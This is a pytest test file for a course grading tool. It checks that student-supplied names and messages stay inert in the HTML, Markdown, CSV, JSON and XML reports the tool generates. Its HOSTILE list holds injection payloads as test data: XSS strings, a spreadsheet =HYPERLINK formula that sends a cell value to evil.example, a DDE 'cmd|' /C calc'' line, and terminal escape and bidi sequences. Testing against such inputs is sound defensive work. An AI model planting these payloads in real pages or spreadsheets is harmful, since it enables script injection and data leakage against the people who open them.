"""What students, instructors and platforms are shown: the right words to the right people, and nothing that acts."""

import csv
import json
import random
import re
import subprocess
import sys
import unicodedata
from base64 import b64encode
from collections import Counter
from hashlib import sha256
from html.parser import HTMLParser
from io import StringIO
from itertools import product
from pathlib import Path
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest

from course_lib.grading import reports
from course_lib.grading.reports.page import STYLE
from course_lib.grading.results import OUTCOMES
from course_lib.grading.store import Store, marks
from course_lib.grading.words import FAILED, SYMBOLS, cell, clean, columns, file_name, from_cell, markdown

sys.path.insert(0, str(Path(__file__).parents[2] / "tools"))

HOSTILE = [  # names, messages, paths, flags: in each of these a student has a say
    "<script>alert(1)</script>",
    "</title></style></p><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)' x=\"",
    "&lt;b&gt; &amp; &#60;i&#62; &nbsp",
    "[x](javascript:alert(1)) ![y](http://evil.example/z.png) <http://evil.example> www.evil.example",
    "**bold** _it_ `code` ~~no~~ | a | b |\n---\n# heading\n- item\n1. one\n> quote\n```\n</pre>",
    "]]> <!-- --> <?xml?> <![CDATA[",
    "=HYPERLINK(\"http://evil.example/?\"&A1)\n=1+1",
    "+49 151", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", ";=1+1;", "x,=1", "\";=1", "\uff1d1", "a;\t-1",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b1m",
    "\u202eright to left\u2066\u200f\u061c",
    "half \ud800 surrogate \udfff, not a character \ufffe \uffff \x00",
    "line\u2028para\u2029next\x85vt\x0bff\x0c",
    "Z" + "\u0300\u0327" * 300,
    "A" * 120,
    "{{7*7}} ${x} {ref}`y` $$a$$ %s {0}",
]  # fmt: skip
ALLOWED = {"html", "head", "meta", "title", "style", "body", "main", "nav", "section", "footer", "div", "h1", "h2", "h3", "p"}
ALLOWED |= {"a", "ul", "ol", "li", "span", "b", "code", "bdi", "svg", "rect", "br", "wbr", "details", "summary"}
ALLOWED |= {"table", "thead", "tbody", "tr", "th", "td"}
INVISIBLE = {*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C, 0xFEFF}  # they turn text round, or hide


def row(student="ada", test="test_a", outcome="wrong", **rest):
    common = {"student": student, "name": student.title(), "hand_in": f"{student}.ipynb", "chapter": "06_squeeze_excitation"}
    common |= {"exercise": "SEBlock" if test else "", "test": test, "title": f"Title of {test}", "points": 2, "outcome": outcome}
    common |= {"message": f"message of {test}" if outcome != "passed" else "", "hint": f"hint of {test}", "visibility": "visible"}
    common |= {"instructor": "", "cpu": 0.1, "seconds": 0.2, "seed": 7, "jail": "standard", "environment_hash": "e" * 64}
    return common | {"flags": [], "when": "2026-11-21T10:00:00+00:00"} | rest


def unread(student="kim", **rest):
    reason = "This is a link. Hand in the notebook: File > Download."
    return row(student, "", "not gradable", points=0, chapter="", title="", hint="", **{"message": reason} | rest)


@pytest.fixture
def built(tmp_path):
    """Everything for a class with these rows: file name to content."""

    def build(*rows):
        reports.write_all(marks(rows), tmp_path)
        return {path.relative_to(tmp_path).as_posix(): path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}

    return build


def text(page: bytes) -> str:
    """What is read on a page, with its white space made plain."""
    found = []

    class Reader(HTMLParser):
        def handle_data(self, data):
            found.append("" if self.lasttag == "style" else data)

    Reader().feed(page.decode().replace("<wbr>", ""))
    return " ".join(" ".join(found).split())


def elements(page: str) -> Counter:
    """The elements of a page with the names of their attributes."""
    found: Counter = Counter()

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attributes):
            found[(tag, *sorted(name for name, _ in attributes))] += 1

        def handle_comment(self, data):
            found["comment"] += 1

    Reader().feed(page)
    return found


def cells(content: bytes, delimiter=",") -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def for_students(files: dict[str, bytes]) -> str:
    """All that any student gets to see, the platforms' files included."""
    return "\n".join(
        content.decode() for name, content in files.items() if name.startswith(("feedback", "gradescope", "moodle", "canvas"))
    )


# ------------------------------------------------------------------------------------------------- nothing that acts


def random_class(seed: int, harmless: bool) -> list[dict]:
    """Rows of six students in which every text that a student has a say in is hostile, or a plain word of the same place."""
    rng = random.Random(seed)
    count = 0

    def say() -> str:
        nonlocal count
        count += 1
        sign = "".join("abcdefghij"[int(digit)] for digit in str(count))  # no two are alike but in their numbers
        pieces = rng.sample(HOSTILE, rng.randint(1, 3))
        return f"word {sign}" if harmless else f"{rng.choice(['', ' ', 'x', '; ']).join(pieces)} {sign}"

    rows = []
    for n in range(6):
        who = {"student": say(), "name": say(), "hand_in": say(), "late": say(), "flags": [say(), say()]}
        if n == 5:
            rows.append(unread(**who | {"message": say()}))
            continue
        for m, outcome in enumerate(OUTCOMES[:9] if n else OUTCOMES):
            rows.append(row(test=f"test_{m}", **who | {"outcome": outcome, "message": say(), "instructor": say(), "cpu": 2 + m}))
    return rows


@pytest.mark.parametrize("seed", range(15))
def test_no_text_of_a_student_becomes_part_of_a_page(seed, tmp_path):
    pages = []
    for harmless in (True, False):
        folder = tmp_path / str(harmless)
        reports.write_all(marks(random_class(seed, harmless)), folder)
        found: Counter = Counter()
        for path in sorted(folder.rglob("*.html")):
            found += elements(path.read_text("utf-8"))
        pages.append(found)
    plain, hostile = pages
    assert plain == hostile
    assert {tag for tag, *_ in hostile} <= ALLOWED


@pytest.mark.parametrize("seed", range(15))
def test_files_hold_no_character_that_acts_and_no_formula(seed, built):
    rows = random_class(seed, harmless=False)
    files = built(*rows)
    for name, content in files.items():
        assert re.fullmatch(r"(feedback/|gradescope/)?[A-Za-z0-9._-]+", name), name
        told = content.decode()
        for character in set(told) - {"\n", "\r"}:
            assert unicodedata.category(character) not in ("Cc", "Cs", "Co", "Cn"), (name, hex(ord(character)))
            assert ord(character) not in INVISIBLE, (name, hex(ord(character)))
    for name, delimiter in product(("canvas.csv", "moodle.csv"), ",;\t"):
        for entry in (entry.strip() for line in cells(files[name], delimiter) for entry in line):
            number = re.fullmatch(r"-?[\d.]+", entry)
            assert number or not unicodedata.normalize("NFKC", entry).startswith(("=", "+", "-", "@")), (name, delimiter, entry)
    assert len(ElementTree.fromstring(files["junit.xml"]).findall("*/testcase")) == len(rows)
    assert sum(len(json.loads(files[name])["tests"]) for name in files if name.endswith(".json")) == len(rows)


@pytest.mark.parametrize("seed", range(5))
def test_no_text_of_a_student_is_a_formula_in_grades(seed, tmp_path):
    store = Store(tmp_path)
    store.append(random_class(seed, harmless=False))
    store.write_grades()
    for delimiter in ",;\t":
        for entry in (entry.strip() for line in cells((tmp_path / "grades.csv").read_bytes(), delimiter) for entry in line):
            assert not unicodedata.normalize("NFKC", entry).startswith(("=", "+", "-", "@")), entry
    assert store.write_grades() == []


@pytest.mark.parametrize("seed", range(15))
def test_no_text_of_a_student_is_markup_in_markdown(seed, built):
    reader = pytest.importorskip("markdown_it", reason="reading Markdown needs markdown-it-py").MarkdownIt(
        "commonmark", {"html": True}
    )
    reader.enable("table").enable("strikethrough")
    for name, content in built(*random_class(seed, harmless=False)).items():
        if name.endswith(".md"):
            found = {tag for tag, *_ in elements(reader.render(content.decode()))}
            assert found <= {"h1", "h2", "p", "strong", "code", "pre", "hr"}, name


def test_a_page_has_no_script_loads_nothing_and_allows_its_own_style_alone(built):
    for name, content in built(row(), unread()).items():
        if name.endswith(".html"):
            page = content.decode()
            (style,) = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
            assert f"style-src 'sha256-{b64encode(sha256(style.encode()).digest()).decode()}'" in page
            assert "default-src 'none'" in page and not re.search(r"<script|<link|<img|https?:|url\(|@import", page)


@pytest.mark.parametrize("said", HOSTILE)
def test_a_cell_gives_back_what_it_was_given(said):
    shown = clean(" ".join(clean(said, 8000).split()))
    assert from_cell(cell(said)) == shown and "\n" not in cell(said)


def test_what_is_no_attack_stays_as_it_is():
    for name in ("Ana María Núñez-Ibáñez", "علي‌رضا", "Nguyễn Thị Minh Khai", "李小龍", "👩‍👧 Kim", "O'Brien, Séamus", "नमस्ते"):
        assert clean(name) == from_cell(cell(name)) == name
        assert cell(name) == name
    assert clean("one\r\ntwo\tthree") == "one\ntwo three"
    assert clean("A" * 10**6) == "A" * 1999 + "…" and len(cell("A\n" * 10**5)) == 2000
    assert clean("\x1b[1;31mred\x1b[0m") == "red"
    assert markdown("a*b_c <d>") == r"a\*b\_c &lt;d&gt;"


def test_every_student_has_a_file_name_of_their_own_on_every_system():
    students = [
        "ada",
        "Ada",
        "a d a",
        "a_d_a",
        "con",
        "con.x",
        "..",
        "../ada",
        "a" * 500,
        "a" * 499,
        "\ud800",
        "名",
        "字",
        "",
        "x.",
        "x",
    ]
    names = [file_name(student) for student in students]
    assert names[0] == "ada" and len({name.lower() for name in names}) == len(students)
    for name in names:
        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]{0,80}", name) and not name.endswith("."), name
        assert name.split(".")[0] not in ("con", "nul")


# ----------------------------------------------------------------------------------------------------------- feedback


def test_a_student_reads_what_is_right_what_is_wrong_and_where_to_look(built):
    files = built(
        row(), row(test="test_b", outcome="passed"), row(test="test_c", exercise="se_parameters", outcome="not attempted")
    )
    page = text(files["feedback/ada.html"])
    assert "Feedback: Chapter 6, squeeze excitation Ada · ada.ipynb 2 of 6 points" in page
    assert "SEBlock 2 of 4 ✗ Title of test_a 0 of 2 wrong message of test_a Hint: hint of test_a" in page
    assert "✓ Title of test_b 2 of 2" in page and "hint of test_b" not in page
    assert "se_parameters not attempted 0 of 2 ○ Title of test_c" in page and "hint of test_c" not in page
    told = files["feedback/ada.md"].decode()
    for words in (
        "# Feedback: Chapter 6",
        "**2 of 6 points**",
        "## `SEBlock`: 2 of 4",
        "    message of test_a",
        "Hint: hint of test\\_a",
    ):
        assert words in told
    assert "hint of test\\_b" not in told


def test_what_an_exercise_has_said_once_it_does_not_say_again(built):
    files = built(*(row(test=f"test_{n}", message="SyntaxError in line 3") for n in range(4)))
    for name in ("feedback/ada.html", "feedback/ada.md"):
        told = files[name].decode()
        assert told.count("SyntaxError in line 3") == 1 and told.count("the same as above") == 3
        assert told.count("Hint:") == 1


def test_a_test_that_is_left_out_for_lack_of_time_did_not_take_too_long(built):
    late = "not run: SEBlock used up its time in the test before it (Title of test_a)"
    files = built(row(outcome="time"), *(row(test=f"test_{n}", outcome="time", message=late) for n in "bc"))
    for name in ("feedback/ada.html", "feedback/ada.md", "gradescope/ada.json", "moodle.csv", "overview.html"):
        told = files[name].decode()
        assert told.count("took too long") == 1, name
        assert "not run" in told.replace(late, ""), name


@pytest.mark.parametrize(("outcome", "visibility"), list(product(OUTCOMES, ("visible", "after_due_date", "hidden"))))
def test_every_outcome_has_a_sign_and_a_word(outcome, visibility, built):
    files = built(row(outcome=outcome, visibility=visibility), row(test="test_b", outcome="passed"))
    page = text(files["feedback/ada.html"])
    assert SYMBOLS[outcome] in page
    shown = visibility == "visible" and outcome != "passed"
    assert ("message of test_a" in page) == shown
    hinted = outcome in ("wrong", "raised", "refused") and shown
    assert ("hint of test_a" in page) == hinted
    assert ("Title of test_a" in page) == (visibility != "hidden")


def test_of_a_hidden_test_no_word_reaches_a_student(built):
    words = {"title": "SECRET-TITLE", "message": "SECRET-MESSAGE", "hint": "SECRET-HINT", "instructor": "SECRET-INSTRUCTOR"}
    for n, outcome in enumerate(OUTCOMES):
        files = built(
            row(f"s{n}", "test_secret_name", outcome, visibility="hidden", **words),
            row(f"s{n}", "test_b", outcome, visibility="after_due_date", **words | {"title": "Open title"}),
        )
        told = for_students({name: content for name, content in files.items() if not name.startswith("gradescope")})
        assert "SECRET" not in told and "secret" not in told
        results = json.loads(files[f"gradescope/s{n}.json"])
        assert "SECRET" not in json.dumps([{**test, "name": ""} for test in results["tests"]])
        assert [test["visibility"] for test in results["tests"] if "SECRET" in test["name"]] == ["hidden"]
        assert "Open title" in told and "SECRET-MESSAGE" in text(files["overview.html"]) or outcome not in FAILED


def test_the_instructors_words_and_flags_reach_no_student(built):
    told = for_students(
        built(row(instructor="FOR-ME", flags=["FLAG"], outcome="crash"), unread(instructor="FOR-ME", flags=["FLAG"]))
    )
    assert "FOR-ME" not in told and "FLAG" not in told


def test_who_has_no_mark_reads_why_and_of_no_zero(built):
    files = built(unread(), row(outcome="error", message="the test went wrong"), row(test="test_b", outcome="passed"))
    page = text(files["feedback/kim.html"])
    assert "This is a link. Hand in the notebook: File > Download." in page and "This is no zero" in page
    assert not re.search(r"\b0 of\b", page) and "points" not in page
    page = text(files["feedback/ada.html"])
    assert "There is no total yet" in page and "not graded yet" in page and "of 4 points" not in page
    assert "This is no zero" in files["feedback/kim.md"].decode() and "no total yet" in files["feedback/ada.md"].decode()


def test_who_handed_in_nothing_has_no_page(built):
    files = built(row(), unread("bob", hand_in="", message="nothing was handed in"))
    assert "feedback/bob.html" not in files
    assert "Nothing handed in: 1" in text(files["overview.html"]) and "feedback/bob" not in files["overview.html"].decode()


def test_trusted_submissions_are_told_on_every_page(built):
    files = built(row(jail="none"))
    for name in ("feedback/ada.html", "feedback/ada.md", "overview.html"):
        assert "ithout a jail" in files[name].decode()


# ----------------------------------------------------------------------------------------------------------- overview


def test_an_instructor_reads_first_what_is_to_be_done(built):
    rows = [row(f"s{n}", "test_hard", "wrong", message=f"off by {n}.5 at {n}") for n in range(5)]
    rows += [row(f"s{n}", "test_easy", "passed") for n in range(5)] + [row("s9", "test_hard", "wrong", message="None came back")]
    rows += [row("s9", "test_easy", "error", instructor="KeyError in line 3"), unread(), unread("bob", hand_in="", name="Bob")]
    rows += [row("s0", "test_slow", "time", exercise="Slow", cpu=10.1, flags=["defined twice"])]
    rows += [row(f"s{n}", "test_slow", "passed", exercise="Slow") for n in (1, 2, 3, 4, 9)]
    page = text(built(*rows)["overview.html"])
    order = [
        "No mark yet: 3",
        "The grader’s own fault: 1",
        "KeyError in line 3",
        "Not gradable, or not whole: 1",
        "This is a link",
    ]
    order += [
        "Nothing handed in: 1",
        "Bob",
        "Marks",
        "Tests, hardest first",
        "0 % pass",
        "test_hard",
        "5 of them:",
        "off by 0.5 at 0",
    ]
    order += ["83 % pass", "test_slow", "100 % pass", "test_easy", "Flags: 1", "defined twice", "Slowest", "10.1"]
    place = 0
    for words in order:
        assert words in page[place:], words
        place = page.index(words, place)


def test_a_tests_rate_is_of_those_who_attempted_it(built):
    late = "not run: SEBlock used up its time in the test before it"
    rows = [row(f"s{n}", "test_rare", "not attempted") for n in range(6)] + [row("s7", "test_rare", "passed")]
    rows += [row(f"s{n}", "test_hard", "passed" if n else "wrong") for n in range(2)] + [row("s2", "test_hard", "blocked")]
    rows += [row("s3", "test_hard", "time", message=late), row("s4", "test_none", "not attempted")]
    page = text(built(*rows)["overview.html"])
    shown = page[page.index("Tests, hardest first") :]
    rates = ("50 % pass", "of 2 who attempted it: 1 wrong, 1 passed; 1 not tried, 1 not run · test_hard")
    rates += ("100 % pass", "of 1 who attempted it: 1 passed; 6 not attempted · test_rare")
    place = 0
    for words in (*rates, "not attempted", "1 not attempted · test_none"):
        assert words in shown[place:], words
        place = shown.index(words, place) + len(words)


def test_bars_say_which_points_they_count(built):
    rows = [row(f"s{n}", f"t{test}", "passed" if test < n else "wrong") for n in range(11) for test in range(10)]
    page = built(*rows)["overview.html"].decode()
    bars = re.findall(r"<li>(\d*)<svg[^>]*preserveAspectRatio[^>]*>.*?</svg>([^<]*)<br>([^<]*)</li>", page)
    assert bars == [("1" if n < 9 else "2", f"{2 * n}–", f"{2 * n + 2}") for n in range(10)]


def test_the_class_table_tells_colours_also_by_signs(built):
    rows = [
        row("a", "t1", "passed"),
        row("a", "t2", "passed"),
        row("b", "t1", "passed"),
        row("b", "t2"),
        row("c", "t1"),
        row("c", "t2"),
    ]
    rows += [
        row("d", "t1", "not attempted"),
        row("d", "t2", "not attempted"),
        row("e", "t1", "error"),
        row("e", "t2"),
        unread("f"),
    ]
    page = built(*rows)["overview.html"].decode()
    assert re.findall(r"<td class=(good|part|bad|none|fault)>([^<]*)</td>", page) == [
        ("good", "✓ 4"),
        ("part", "~ 2"),
        ("bad", "✗ 0"),
        ("none", "○ 0"),
        ("fault", "!"),
        ("none", "–"),
    ]


def test_everyone_marked_is_said(built):
    assert "Everyone has a mark" in text(built(row())["overview.html"])


def test_the_terminal_table_lines_up():
    rows = [row("ada", outcome="passed"), row("bob", name="李小龍\x1b[31m"), unread(), row("x", name="N" * 99)]
    lines = reports.table(marks(rows)).splitlines()
    assert len({columns(line) for line in lines}) == 1
    assert lines[0].split() == ["student", "SEBlock", "total"] and lines[1].split() == ["out", "of", "2", "2"]
    assert [line.split()[-2:] for line in lines[2:]] == [["2", "2"], ["–", "–"], ["0", "0"], ["0", "0"]]
    several = reports.table(marks([*rows, row("ada", "t", "passed", chapter="07_more", exercise="E")])).splitlines()
    assert several[0].split() == ["student", "06_squeeze_excitation", "07_more", "total"]
    assert reports.table([]) == "no results"


def test_the_signs_of_the_terminal_table_are_explained_where_they_stand():
    given = {"kim": {"student": "kim", "manual": "1"}}
    manual, none = "* given by hand, in the column manual of grades.csv", "– no mark yet, which is no zero"
    assert reports.key(marks([row()])) == reports.key([]) == ""
    assert reports.key(marks([row(), unread("bob")])) == none
    assert reports.key(marks([row(), unread("kim")], given)) == f"{manual}; {none}"  # the exercises still have none
    assert reports.key(marks([row("kim")], given)) == manual


def luminance(colour: str) -> float:
    colour = "".join(2 * digit for digit in colour[1:]) if len(colour) == 4 else colour[1:]
    parts = [int(colour[n : n + 2], 16) / 255 for n in (0, 2, 4)]
    linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


@pytest.mark.parametrize("scheme", [0, 1], ids=["light", "dark"])
def test_every_text_stands_out_from_what_is_behind_it(scheme):
    colours = dict(re.findall(r"--([\w-]+): (#\w+);", STYLE.split("@media (prefers-color-scheme: dark)")[scheme]))
    tones = ["good", "bad", "part", "none", "fault"]
    pairs = [(tone, back) for tone in [*tones, "text", "quiet", "link"] for back in ("page", "panel")]
    for tone, back in pairs + [(tone, f"{tone}-back") for tone in tones] + [("text", f"{tone}-back") for tone in tones]:
        high, low = sorted((luminance(colours[tone]), luminance(colours[back])), reverse=True)
        assert (high + 0.05) / (low + 0.05) >= 4.5, (tone, back)


def test_pages_fit_the_screen_and_run_nothing(chromium, tmp_path):
    reports.write_all(marks([*random_class(1, harmless=False), *random_class(2, harmless=True)]), tmp_path)
    page = chromium.new_page()
    said = []
    page.on("console", lambda message: said.append(message.text))
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: said.append(request.url) if not request.url.startswith("file:") else None)
    for path in sorted(tmp_path.rglob("*.html")):
        page.goto(path.as_uri())
        for width, scheme in product((390, 1280), ("light", "dark")):
            page.set_viewport_size({"width": width, "height": 844})
            page.emulate_media(color_scheme=scheme)
            assert page.evaluate("document.documentElement.scrollWidth") <= width, (path.name, scheme)
        assert page.evaluate("getComputedStyle(document.body).margin") == "0px", "the page's own style is not applied"
    page.close()
    assert said == []


# ---------------------------------------------------------------------------------------------------------- platforms


def class_of_four():
    rows = [row("4711", name="Ada", hand_in="ada_4711_99_06.ipynb", outcome="passed"), row("bob", test="test_a"), unread()]
    return [*rows, row("dan", outcome="error")]


def test_junit_tells_failures_faults_and_skips_apart(built):
    rows = [row("ada", f"t{n}", outcome, instructor="FOR-ME") for n, outcome in enumerate(OUTCOMES)]
    suite = ElementTree.fromstring(built(*rows)["junit.xml"]).find("testsuite")
    assert suite.get("name") == "ada"
    assert [suite.get(name) for name in ("tests", "failures", "errors", "skipped")] == ["11", "6", "2", "2"]
    case = suite.findall("testcase")[1]
    assert (case.get("classname"), case.get("name"), case.get("time")) == ("06_squeeze_excitation.SEBlock", "t1", "0.200")
    assert case.find("failure").get("type") == "wrong" and "FOR-ME" in case.find("failure").text


def test_gradescope_gets_its_documented_format(built):
    files = built(*class_of_four())
    results = json.loads(files["gradescope/bob.json"])
    assert set(results) == {"tests", "stdout_visibility", "execution_time"} and results["stdout_visibility"] == "hidden"
    (test,) = results["tests"]
    assert test == {
        "name": "SEBlock: Title of test_a",
        "name_format": "text",
        "output": "wrong: message of test_a\nHint: hint of test_a",
        "output_format": "text",
        "score": 0,
        "max_score": 2,
        "status": "failed",
        "visibility": "visible",
    }
    for student in ("kim", "dan"):
        results = json.loads(files[f"gradescope/{student}.json"])
        assert "score" not in json.dumps(results) and "no zero" in results["output"]


def test_the_autograder_zip_is_what_gradescope_unpacks(tmp_path):
    wheel = tmp_path / "course_lib-1-py3-none-any.whl"
    wheel.write_bytes(b"a wheel")
    for path, given in ((tmp_path / "a.zip", None), (tmp_path / "b.zip", wheel)):
        reports.autograder(path, given)
        with ZipFile(path) as archive:
            scripts = {name: archive.read(name).decode() for name in ("setup.sh", "run_autograder")}
            assert all(archive.getinfo(name).external_attr >> 16 & 0o111 for name in scripts)
            assert (wheel.name in archive.namelist()) == bool(given)
        for script in scripts.values():
            assert script.startswith("#!/usr/bin/env bash\n") and "set -euo pipefail" in script
            subprocess.run(["bash", "-n"], input=script, text=True, check=True)
        assert ("/autograder/source/course_lib-1" if given else "course-lib==") in scripts["setup.sh"]
        assert "course grade /autograder/submission" in scripts["run_autograder"]
        assert "/autograder/results/results.json" in scripts["run_autograder"]
    first = (tmp_path / "a.zip").read_bytes()
    assert reports.autograder(tmp_path / "a.zip").read_bytes() == first


def test_canvas_gets_marks_and_loses_none(tmp_path):
    given = {"bob": {"student": "bob", "manual": "1.5"}}
    path = reports.canvas(marks(class_of_four(), given), tmp_path)
    assert cells(path.read_bytes()) == [
        ["Student", "ID", "SIS Login ID", "Section", "06_squeeze_excitation"],
        ["    Points Possible", "", "", "", "2"],
        ["Ada", "4711", "", "", "2"],  # its number comes from Canvas's own file name
        ["Bob", "", "bob", "", "1.5"],
    ]
    roster_id = [row("4711", hand_in="06.ipynb")]
    assert cells(reports.canvas(marks(roster_id), tmp_path, "Exercise 6 (12)").read_bytes())[0::2] == [
        ["Student", "ID", "SIS Login ID", "Section", "Exercise 6 (12)"],
        ["4711", "", "4711", "", "0"],  # another Canvas user may have this number
    ]


def test_beside_a_manual_mark_nobody_reads_that_there_is_none(tmp_path):
    decided = marks([row(), unread(), row("dan", outcome="error")], {name: {"manual": "1.5"} for name in ("kim", "dan")})
    reports.write_all(decided, tmp_path)
    files = {path.relative_to(tmp_path).as_posix(): path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    told = for_students(files)
    assert "no mark yet" not in told and "no total yet" not in told and "This is a link" in told
    assert "Hand in" not in told and "hand in" not in told
    assert "1.5 of 2 points, as your instructor decided" in text(files["feedback/kim.html"])
    for student in ("kim", "dan"):
        results = json.loads(files[f"gradescope/{student}.json"])
        assert results["score"] == 1.5 and "output" not in results
    assert "score" not in json.loads(files["gradescope/ada.json"])


def test_beside_a_manual_mark_no_request_to_hand_in_is_left_of_any_file(tmp_path):
    said = "a. b.ipynb is not a notebook: not JSON (line 1). Save it, download it and hand that in; b.zip is a link. Hand it in"
    for manual, expected in (("", said), ("1", "a. b.ipynb is not a notebook: not JSON (line 1); b.zip is a link")):
        reports.write_all(marks([unread(message=said)], {"kim": {"manual": manual}}), tmp_path)
        assert f'<p class="words">{expected}</p>' in (tmp_path / "feedback/kim.html").read_text()


def test_the_instructors_comment_reaches_the_student_as_the_instructors_words(tmp_path):
    given = {name: {"comment": "Let us talk <b>on Friday</b> *at* 10"} for name in ("4711", "bob", "kim")}
    reports.write_all(marks(class_of_four(), given), tmp_path)
    files = {path.relative_to(tmp_path).as_posix(): path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    worksheet = cells(files["moodle.csv"])[1:]
    for student, (*_, comment) in zip(("4711", "bob", "dan", "kim"), worksheet, strict=True):
        page, told = files[f"feedback/{student}.html"].decode(), files[f"feedback/{student}.md"].decode()
        output = json.loads(files[f"gradescope/{student}.json"]).get("output", "")
        if student == "dan":
            assert "Your instructor writes" not in page + told + output + comment
            continue
        said = 'Your instructor writes</h2><p class="words">Let us talk &lt;b&gt;on Friday&lt;/b&gt; *at* 10</p>'
        assert said in page
        assert "**Your instructor writes:**\n\n    Let us talk <b>on Friday</b> *at* 10\n" in told
        assert output.startswith("Your instructor writes: Let us talk <b>on Friday</b> *at* 10")
        assert comment.startswith("<b>Your instructor writes:</b> Let us talk &lt;b&gt;on Friday&lt;/b&gt; *at* 10")
    assert worksheet[0][4].endswith("All tests passed.") and "no zero" in worksheet[3][4]


def test_moodle_gets_its_worksheet(built):
    head, *lines = cells(built(*class_of_four())["moodle.csv"])
    assert head == ["Identifier", "Full name", "Grade", "Last modified (grade)", "Feedback comments"]
    assert [line[:4] for line in lines] == [
        ["Participant 4711", "Ada", "2", ""],
        ["bob", "Bob", "0", ""],
        ["dan", "Dan", "", ""],
        ["kim", "Kim", "", ""],
    ]
    assert lines[0][4] == "All tests passed."
    assert lines[1][4] == "<b>SEBlock: Title of test_a</b> (wrong)<br>message of test_a<br>Hint: hint of test_a"
    assert "no zero" in lines[3][4]


def test_moodle_reads_comments_as_html_so_they_are_safe_html(built):
    head, *lines = cells(built(*random_class(0, harmless=False))["moodle.csv"])
    for line in lines:
        assert {tag for tag, *_ in elements(line[4])} <= {"b", "br"} and not re.search("[=+@\n-]", line[4])
